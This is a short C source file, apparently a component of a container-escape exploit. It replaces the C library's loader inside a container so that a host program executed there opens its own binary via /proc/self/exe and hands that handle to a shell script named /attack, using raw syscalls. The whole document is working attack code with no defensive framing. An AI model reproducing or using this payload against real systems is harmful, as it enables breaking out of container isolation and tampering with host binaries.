// Stands where the C library's loader belongs, and so is run in place of a program of the host that is executed in the
// container: keeps that program open and hands it to /attack. No library, because there is no one to load it.
static long call(long number, long one, long two, long three)
{
	long result;

	__asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(one), "S"(two), "d"(three) : "rcx", "r11", "memory");
	return result;
}

void _start(void)
{
	static const char program[] = "/proc/self/exe", shell[] = "/bin/sh", script[] = "/attack";
	const char *args[] = {shell, script, 0}, *none[] = {"PATH=/bin", 0};

	call(2, (long)program, 0, 0);
	call(59, (long)shell, (long)args, (long)none);
	call(60, 99, 0, 0);
}
